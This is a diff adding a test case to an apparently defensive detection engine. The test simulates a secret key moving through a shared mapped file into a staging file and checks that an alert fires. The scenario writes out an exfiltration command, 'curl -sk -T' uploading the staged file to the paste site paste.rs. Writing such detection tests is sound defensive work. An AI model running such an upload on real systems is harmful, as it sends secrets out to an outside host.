@@ -328,6 +328,26 @@ TEST_CASE("a read-only mapper of a file nothing was written to yet gets what a h
     CHECK(tl.alerts[0].process.entity_id == watcher.entity_id);
     CHECK(tl.alerts[0].reason.find("/tmp/scratch.map") != std::string::npos);
 
+    // The holder opened the file before it read the key (a repeat open is not reported), so its
+    // write is learnt from the summary at its exit, after the mapper staged what it saw: dated at
+    // the write, the mapper's staging file written since holds it.
+    Timeline late;
+    auto w2 = late.start_session({"python3", "watch.py"});
+    late.map_shared(w2, 5454, false);
+    auto h4 = late.start_session({"python3", "stage.py"});
+    late.open_write(h4, "/tmp/scratch.map", 5454, false);
+    late.read(h4, key, 2600);
+    const TimeNs written = late.t;
+    late.step();
+    late.open_write(w2, "/tmp/seen.bin", 5455);
+    late.wrote(w2, "/tmp/seen.bin", 5455);
+    late.feed(FileSummaryEvent{late.t, h4, "/tmp/scratch.map", 5454, 2049, 0, 0, true, written});
+    late.step();
+    auto up = late.start_session({"curl", "-sk", "-T", "/tmp/seen.bin", "https://paste.rs/"});
+    late.read(up, "/tmp/seen.bin", 2600, 5455);
+    late.transfer(up, "paste.rs", 1300 + 2600, 400);
+    CHECK_FALSE(silent(late));
+
     // Twins: a mapper that exec'd (a new address space) before the write, and a file mapped by
     // many readers (a build's headers) that a holder never writes.
     Timeline execd;
